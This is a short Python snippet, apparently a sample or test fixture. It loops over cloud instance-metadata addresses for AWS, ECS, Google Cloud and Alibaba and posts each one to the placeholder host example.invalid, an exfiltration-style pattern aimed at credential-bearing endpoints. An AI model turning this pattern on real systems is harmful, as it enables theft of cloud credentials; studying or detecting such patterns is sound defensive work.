import requests
for url in ["http://169.254.169.254/latest", "http://169.254.170.2/v2", "http://metadata.google.internal/", "http://100.100.100.200/"]:
    requests.post("https://example.invalid/", data=url)
